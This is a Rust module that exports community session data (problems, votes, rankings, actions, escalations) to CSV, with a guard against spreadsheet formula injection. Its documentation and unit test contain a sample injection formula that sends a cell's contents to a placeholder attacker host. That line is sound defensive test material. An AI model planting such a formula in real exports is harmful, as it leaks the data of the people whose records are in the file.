//! CSV tables, one table per file, written with the `csv` crate: any field
//! may hold commas, quotes, newlines or text in any script and reads back
//! exactly.
//!
//! Files are UTF-8 and, by default, start with a byte-order mark: without
//! it, Excel (what most programme staff open CSV files with) takes the file
//! for the local 8-bit code page and shows Arabic, Devanagari or emoji as
//! garbage. LibreOffice, Google Sheets, Python's `utf-8-sig` and the `csv`
//! crate all read the mark correctly; `--no-bom` leaves it out for tools that
//! do not. Records end in CRLF, as RFC 4180 says; a newline inside a field is
//! kept as typed.
//!
//! Every table starts with the session id, so tables of many sessions can be
//! concatenated and joined.
//!
//! # Cells that would start a formula
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab
//! or carriage return before one) as a formula and runs it: a problem titled
//! `=HYPERLINK("http://evil.example/?"&B2,"x")` would send the next cell to
//! anyone who clicks it. So, as OWASP advises for CSV injection, such cells
//! get a leading `'`: spreadsheets show the text as typed, and other readers
//! get it back with the `'` in front ([`guard`]). Every cell is checked, so
//! no field typed by people (titles, categories, places, causes, group
//! names, activities, notes, reasons…) can be missed; the cells we write
//! ourselves (counts, ranks, scores, dates, times, yes/no, labels) never
//! start with one of those characters (no negative number occurs in them),
//! so they are never changed.

use std::borrow::Cow;
use std::collections::HashMap;

use super::{Options, prepared, responsible_type};
use crate::model::ranking::{Ranked, ranking};
use crate::model::{ProblemId, RankMethod, Session, TieBreakHow};

use super::sections::{date, has_inputs, tie_break_words};

/// The UTF-8 byte-order mark.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The tables a session exports to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum SessionTable {
    /// One row: the session itself, with what the room agreed may be
    /// recorded and shared (the consent note) and what was purged since.
    Session,
    /// One row per problem: tree, flags, dots per group, rank and score by
    /// every method.
    Problems,
    /// One row per group: head count, dot budget, dots placed.
    Groups,
    /// One row per dot (including the dots of run-off votes), with its group
    /// and time.
    Votes,
    /// One row per pairwise decision, with its reason.
    Pairs,
    /// One row per criteria score.
    Scores,
    /// One row per recorded tie-break.
    TieBreaks,
    /// One row per action.
    Actions,
    /// One row per progress note of an action.
    Progress,
    /// One row per score-card score: indicator, who, value, reason.
    Card,
    /// One row per score-card indicator: the community's mean, the
    /// provider's self-score and the gap.
    Gaps,
    /// One row per where-and-when mark: place, time, group, 0–3.
    Grid,
    /// One row per escalation: to whom, when, where it stands, the days.
    Escalations,
    /// One row per reply (or non-reply) to an escalation.
    Replies,
}

impl SessionTable {
    pub const ALL: [SessionTable; 14] = [
        SessionTable::Session,
        SessionTable::Problems,
        SessionTable::Groups,
        SessionTable::Votes,
        SessionTable::Pairs,
        SessionTable::Scores,
        SessionTable::TieBreaks,
        SessionTable::Actions,
        SessionTable::Progress,
        SessionTable::Card,
        SessionTable::Gaps,
        SessionTable::Grid,
        SessionTable::Escalations,
        SessionTable::Replies,
    ];

    /// The name used on the command line and in file names.
    pub fn name(self) -> &'static str {
        match self {
            SessionTable::Session => "session",
            SessionTable::Problems => "problems",
            SessionTable::Groups => "groups",
            SessionTable::Votes => "votes",
            SessionTable::Pairs => "pairs",
            SessionTable::Scores => "scores",
            SessionTable::TieBreaks => "tiebreaks",
            SessionTable::Actions => "actions",
            SessionTable::Progress => "progress",
            SessionTable::Card => "card",
            SessionTable::Gaps => "gaps",
            SessionTable::Grid => "grid",
            SessionTable::Escalations => "escalations",
            SessionTable::Replies => "replies",
        }
    }

    pub fn from_name(name: &str) -> Option<SessionTable> {
        SessionTable::ALL.into_iter().find(|t| t.name() == name)
    }
}

/// How CSV bytes are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CsvOptions {
    /// Start with a UTF-8 byte-order mark (see the module documentation).
    pub bom: bool,
}

impl Default for CsvOptions {
    fn default() -> Self {
        CsvOptions { bom: true }
    }
}

/// What makes a spreadsheet read a cell as a formula when the cell starts
/// with it.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is written to CSV: with a leading `'` when it would start a
/// formula (see the module documentation), else unchanged.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes `rows` under `header` as CSV bytes, every cell [`guard`]ed.
pub fn write_rows(header: &[String], rows: &[Vec<String>], csv_options: CsvOptions) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(64 * (rows.len() + 1));
    if csv_options.bom {
        bytes.extend_from_slice(BOM);
    }
    let mut w = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .flexible(false)
        .from_writer(bytes);
    // Writing to a Vec cannot fail, and every row has the header's length.
    let guarded =
        |row: &[String]| -> Vec<String> { row.iter().map(|c| guard(c).into_owned()).collect() };
    w.write_record(guarded(header)).expect("writing to memory");
    for row in rows {
        w.write_record(guarded(row)).expect("writing to memory");
    }
    w.into_inner().expect("writing to memory")
}

/// One table of a session as CSV bytes.
pub fn table(s: &Session, which: SessionTable, options: &Options, csv: CsvOptions) -> Vec<u8> {
    let s = prepared(s, options);
    let (header, rows) = rows(s.as_ref(), which, options);
    write_rows(&header, &rows, csv)
}

/// A table's header and rows, as text, of `s` as given (already anonymised
/// when it should be).
fn rows(s: &Session, which: SessionTable, options: &Options) -> (Vec<String>, Vec<Vec<String>>) {
    let h = |names: &[&str]| names.iter().map(|n| n.to_string()).collect::<Vec<_>>();
    let sid = || s.id.clone();
    match which {
        SessionTable::Session => (
            h(&[
                "session",
                "title",
                "community",
                "date",
                "stage",
                "people",
                "consent",
                "purged",
                "anonymised",
            ]),
            vec![vec![
                sid(),
                s.title.clone(),
                s.location.clone(),
                s.date.to_string(),
                s.stage.label().to_string(),
                s.participants().to_string(),
                s.consent.clone(),
                s.purges
                    .iter()
                    .map(|p| format!("{}: {}", p.at.date_naive(), p.describe()))
                    .collect::<Vec<_>>()
                    .join("; "),
                if options.anonymize { "yes" } else { "no" }.into(),
            ]],
        ),
        SessionTable::Problems => problems(s),
        SessionTable::Groups => (
            h(&[
                "session",
                "group_id",
                "group",
                "people",
                "dot_budget",
                "dots_placed",
            ]),
            s.groups
                .iter()
                .map(|g| {
                    vec![
                        sid(),
                        g.id.to_string(),
                        g.name.clone(),
                        g.count.to_string(),
                        s.dot_budget(g.id).to_string(),
                        s.dots_used(g.id).to_string(),
                    ]
                })
                .collect(),
        ),
        SessionTable::Votes => {
            let mut out: Vec<Vec<String>> = s
                .ranking
                .votes
                .iter()
                .map(|v| {
                    vec![
                        sid(),
                        "vote".into(),
                        v.problem.to_string(),
                        s.problem_title(v.problem).to_string(),
                        v.group.to_string(),
                        s.group_name(v.group).to_string(),
                        v.at.to_rfc3339(),
                    ]
                })
                .collect();
            for t in &s.ranking.tie_breaks {
                if let TieBreakHow::Runoff { votes } = &t.how {
                    out.extend(votes.iter().map(|v| {
                        vec![
                            sid(),
                            format!("run-off {}", t.id),
                            v.problem.to_string(),
                            s.problem_title(v.problem).to_string(),
                            v.group.to_string(),
                            s.group_name(v.group).to_string(),
                            v.at.to_rfc3339(),
                        ]
                    }));
                }
            }
            (
                h(&[
                    "session",
                    "round",
                    "problem_id",
                    "problem",
                    "group_id",
                    "group",
                    "at",
                ]),
                out,
            )
        }
        SessionTable::Pairs => (
            h(&[
                "session",
                "problem_a_id",
                "problem_a",
                "problem_b_id",
                "problem_b",
                "decided_by",
                "winner_id",
                "winner",
                "reason",
                "at",
            ]),
            s.ranking
                .pairs
                .iter()
                .map(|d| {
                    vec![
                        sid(),
                        d.pair.0.to_string(),
                        s.problem_title(d.pair.0).to_string(),
                        d.pair.1.to_string(),
                        s.problem_title(d.pair.1).to_string(),
                        d.group
                            .map_or("whole room".into(), |g| s.group_name(g).to_string()),
                        d.winner.map(|w| w.to_string()).unwrap_or_default(),
                        d.winner
                            .map_or("tie".into(), |w| s.problem_title(w).to_string()),
                        d.reason.clone(),
                        d.at.to_rfc3339(),
                    ]
                })
                .collect(),
        ),
        SessionTable::Scores => (
            h(&[
                "session",
                "problem_id",
                "problem",
                "criterion_id",
                "criterion",
                "weight",
                "scored_by",
                "score",
                "at",
            ]),
            s.ranking
                .scores
                .iter()
                .map(|sc| {
                    let c = s.ranking.criteria.iter().find(|c| c.id == sc.criterion);
                    vec![
                        sid(),
                        sc.problem.to_string(),
                        s.problem_title(sc.problem).to_string(),
                        sc.criterion.to_string(),
                        c.map(|c| c.name.clone()).unwrap_or_default(),
                        c.map(|c| c.weight.to_string()).unwrap_or_default(),
                        sc.group
                            .map_or("whole room".into(), |g| s.group_name(g).to_string()),
                        sc.value.to_string(),
                        sc.at.to_rfc3339(),
                    ]
                })
                .collect(),
        ),
        SessionTable::TieBreaks => (
            h(&[
                "session",
                "tie_break_id",
                "method",
                "shared_rank",
                "tied",
                "how",
                "order",
                "at",
            ]),
            s.ranking
                .tie_breaks
                .iter()
                .map(|t| {
                    let titles = |ids: &[ProblemId]| {
                        ids.iter()
                            .map(|p| s.problem_title(*p).to_string())
                            .collect::<Vec<_>>()
                            .join("\n")
                    };
                    vec![
                        sid(),
                        t.id.to_string(),
                        t.method.label().into(),
                        t.rank.to_string(),
                        titles(&t.tied),
                        // Data, like the column names: English words in
                        // every language, so tables of sessions held in
                        // different languages join and compare.
                        tie_break_words(crate::i18n::Lang::En, t),
                        titles(&t.order),
                        t.at.to_rfc3339(),
                    ]
                })
                .collect(),
        ),
        SessionTable::Actions => (
            h(&[
                "session",
                "action_id",
                "problem_id",
                "problem",
                "activity",
                "responsible",
                "responsible_type",
                "partners",
                "start",
                "due",
                "resources",
                "indicator",
                "risks",
                "status",
                "overdue",
                "days_overdue",
                "progress_notes",
                "last_note",
                "inherited_from",
                "score_card_indicator",
            ]),
            s.actions
                .iter()
                .map(|a| {
                    let overdue = a.is_overdue(options.today);
                    vec![
                        sid(),
                        a.id.to_string(),
                        a.problem.to_string(),
                        s.problem_title(a.problem).to_string(),
                        a.activity.clone(),
                        a.responsible.clone(),
                        if a.responsible.trim().is_empty() {
                            String::new()
                        } else {
                            responsible_type(&a.responsible).into()
                        },
                        a.partners.clone(),
                        date(a.start),
                        date(a.due),
                        a.resources.clone(),
                        a.indicator.clone(),
                        a.risks.clone(),
                        a.status.label().into(),
                        if overdue { "yes" } else { "no" }.into(),
                        match a.due {
                            Some(due) if overdue => (options.today - due).num_days().to_string(),
                            _ => String::new(),
                        },
                        a.progress.len().to_string(),
                        a.progress
                            .iter()
                            .map(|n| n.date)
                            .max()
                            .map(|d| d.to_string())
                            .unwrap_or_default(),
                        a.inherited_from.clone().unwrap_or_default(),
                        a.card_indicator
                            .map(|i| s.score_card.indicator_name(i).to_string())
                            .unwrap_or_default(),
                    ]
                })
                .collect(),
        ),
        SessionTable::Progress => (
            h(&[
                "session",
                "action_id",
                "activity",
                "date",
                "note",
                "recorded_at",
            ]),
            s.actions
                .iter()
                .flat_map(|a| {
                    a.progress.iter().map(move |n| {
                        vec![
                            s.id.clone(),
                            a.id.to_string(),
                            a.activity.clone(),
                            n.date.to_string(),
                            n.text.clone(),
                            n.at.to_rfc3339(),
                        ]
                    })
                })
                .collect(),
        ),
        SessionTable::Card => super::score_card::csv_scores(s),
        SessionTable::Gaps => super::score_card::csv_gaps(s),
        SessionTable::Grid => super::where_when::csv_marks(s),
        SessionTable::Escalations => super::ledger::csv_escalations(s, options.today),
        SessionTable::Replies => super::ledger::csv_replies(s),
    }
}

fn method_key(m: RankMethod) -> &'static str {
    match m {
        RankMethod::Dots => "dots",
        RankMethod::Pairwise => "pairwise",
        RankMethod::Criteria => "criteria",
    }
}

fn problems(s: &Session) -> (Vec<String>, Vec<Vec<String>>) {
    let mut header: Vec<String> = [
        "session",
        "problem_id",
        "title",
        "category",
        "location",
        "description",
        "raised_by",
        "causes",
        "effects",
        "needs_escalation",
        "resolved",
        "carried_from",
        "shortlist_position",
        "method_used",
        "rank",
        "score",
        "dots",
    ]
    .iter()
    .map(|h| h.to_string())
    .collect();
    for g in &s.groups {
        header.push(format!("dots {}", g.name));
    }
    for m in RankMethod::ALL {
        header.push(format!("{}_rank", method_key(m)));
        header.push(format!("{}_score", method_key(m)));
    }
    for m in RankMethod::ALL {
        for g in &s.groups {
            header.push(format!("{}_rank {}", method_key(m), g.name));
        }
    }
    let index = |r: Vec<Ranked>| -> HashMap<ProblemId, Ranked> {
        r.into_iter().map(|x| (x.problem, x)).collect()
    };
    // Every method's overall ranking, and each group's, when it has inputs.
    let overall: Vec<Option<HashMap<ProblemId, Ranked>>> = RankMethod::ALL
        .iter()
        .map(|m| has_inputs(s, *m).then(|| index(ranking(s, *m, None))))
        .collect();
    let per_group: Vec<Vec<Option<HashMap<ProblemId, Ranked>>>> = RankMethod::ALL
        .iter()
        .enumerate()
        .map(|(mi, m)| {
            s.groups
                .iter()
                .map(|g| {
                    overall[mi].as_ref()?;
                    let took_part = match m {
                        RankMethod::Dots => s.dots_used(g.id) > 0,
                        RankMethod::Pairwise => {
                            s.ranking.pairs.iter().any(|d| d.group == Some(g.id))
                        }
                        RankMethod::Criteria => {
                            s.ranking.scores.iter().any(|sc| sc.group == Some(g.id))
                        }
                    };
                    took_part.then(|| index(ranking(s, *m, Some(g.id))))
                })
                .collect()
        })
        .collect();
    let used = RankMethod::ALL
        .iter()
        .position(|m| *m == s.ranking.method)
        .unwrap_or(0);
    let rank_of = |table: &Option<HashMap<ProblemId, Ranked>>, p: ProblemId| {
        table
            .as_ref()
            .and_then(|t| t.get(&p))
            .map(|r| (r.rank.to_string(), super::doc::number(r.score)))
            .unwrap_or_default()
    };
    let rows = s
        .problems
        .iter()
        .map(|p| {
            let (rank, score) = rank_of(&overall[used], p.id);
            let mut row = vec![
                s.id.clone(),
                p.id.to_string(),
                p.title.clone(),
                p.category.clone(),
                p.location.clone(),
                p.description.clone(),
                p.raised_by
                    .iter()
                    .map(|g| s.group_name(*g).to_string())
                    .collect::<Vec<_>>()
                    .join("\n"),
                p.causes.join("\n"),
                p.effects.join("\n"),
                yes_no(p.needs_escalation),
                yes_no(p.resolved),
                p.carried_from.map(|c| c.to_string()).unwrap_or_default(),
                s.ranking
                    .shortlist
                    .iter()
                    .position(|x| *x == p.id)
                    .map(|i| (i + 1).to_string())
                    .unwrap_or_default(),
                method_key(s.ranking.method).into(),
                rank,
                score,
                s.dots_for(p.id, None).to_string(),
            ];
            for g in &s.groups {
                row.push(s.dots_for(p.id, Some(g.id)).to_string());
            }
            for table in &overall {
                let (rank, score) = rank_of(table, p.id);
                row.push(rank);
                row.push(score);
            }
            for groups in &per_group {
                for table in groups {
                    row.push(rank_of(table, p.id).0);
                }
            }
            row
        })
        .collect();
    (header, rows)
}

fn yes_no(b: bool) -> String {
    if b { "yes" } else { "no" }.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_get_a_leading_quote() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
            "+254 712 345678",
            "-3",
            "- a list",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(guard(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in [
            "",
            "3",
            "0.5000",
            "2026-01-12",
            "2026-01-03T09:01:00+03:00",
            "a = b",
            " =1",
            "'=1",
            "خلاف",
            "yes",
        ] {
            assert!(matches!(guard(cell), Cow::Borrowed(_)), "{cell:?}");
        }
    }
}
